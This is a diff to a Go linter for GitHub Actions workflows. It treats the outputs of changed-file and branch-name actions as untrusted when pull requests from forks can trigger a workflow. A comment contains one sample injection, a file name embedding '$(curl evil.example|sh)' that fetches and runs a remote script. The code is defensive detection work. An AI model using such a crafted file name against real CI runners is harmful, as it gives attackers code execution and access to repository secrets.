@@ -36,6 +36,14 @@ type taint struct {
 	// top of the job's env chain once set); one map however many steps
 	// write, so that lookups do not walk a layer per write.
 	ghEnv *taintScope
+	// prFiles is set when a pull request can start the workflow: then
+	// the outputs of actions that report its branch or changed file
+	// names (attackerOutputs) carry the pull request author's text.
+	prFiles bool
+	// outputFilter maps a steps.<id>.outputs.* path to the action whose
+	// attackerOutputs filter says which outputs are untrusted. It is
+	// written only after paths is owned, and shares its lifetime.
+	outputFilter map[string]string
 }
 
 // any reports whether some variable or path may carry untrusted input.
@@ -98,7 +106,40 @@ func workflowTaint(w *ciconfig.Workflow) taint {
 		}
 	}
 	t.owned = false // shared by the jobs
+	t.prFiles = triggered(w, forkPRTriggers) != nil || w.Trigger("workflow_run") != nil
 	return t
+}
+
+// attackerOutputs are actions whose outputs hold a pull request's branch
+// name or changed file names, which its author chooses freely (a file
+// named $(curl evil.example|sh).txt is a valid name), by lower-case action
+// name: the output names that do, or nil for all of them.
+var attackerOutputs = map[string]func(output string) bool{
+	"tj-actions/changed-files": func(o string) bool { return strings.Contains(o, "files") },
+	"dorny/paths-filter":       func(o string) bool { return strings.HasSuffix(o, "_files") },
+	"tj-actions/branch-names":  nil,
+	"tj-actions/verify-changed-files": func(o string) bool {
+		return strings.Contains(o, "files")
+	},
+}
+
+// actionOutputs records, when t.prFiles, that step s's outputs from an
+// attackerOutputs action are untrusted (as steps.<id>.outputs.* with a
+// filter checked in taintedRefs).
+func actionOutputs(jt taint, s *ciconfig.Step) taint {
+	if !jt.prFiles || s.ID == nil || s.Uses == nil {
+		return jt
+	}
+	name := actionName(s)
+	if _, ok := attackerOutputs[name]; !ok {
+		return jt
+	}
+	jt.addPath("steps."+strings.ToLower(s.ID.Value)+".outputs.*", name, false)
+	if jt.outputFilter == nil {
+		jt.outputFilter = map[string]string{}
+	}
+	jt.outputFilter["steps."+strings.ToLower(s.ID.Value)+".outputs.*"] = name
+	return jt
 }
 
 // jobTaint is t plus the job's env: and its matrix rows whose values
@@ -271,7 +312,17 @@ func taintedRefs(text string, t *taint) (refs []string, soft bool) {
 		low := strings.ToLower(tok)
 		for _, n := range [...]int{2, 4} { // inputs.x, matrix.x; steps.id.outputs.y, github.event.inputs.x
 			p := prefixSegments(low, n)
-			if from, ok := t.paths[p]; ok {
+			from, ok := t.paths[p]
+			if !ok && n == 4 && p != "" {
+				// steps.<id>.outputs.* of an attackerOutputs action.
+				wild := p[:strings.LastIndexByte(p, '.')] + ".*"
+				if action, isOut := t.outputFilter[wild]; isOut {
+					if keep := attackerOutputs[action]; keep == nil || keep(p[len(wild)-1:]) {
+						from, ok = "an output of "+action+" holding the pull request's branch or file names", true
+					}
+				}
+			}
+			if ok {
 				desc := p
 				if from != "" && from != p {
 					desc += " (" + from + ")"
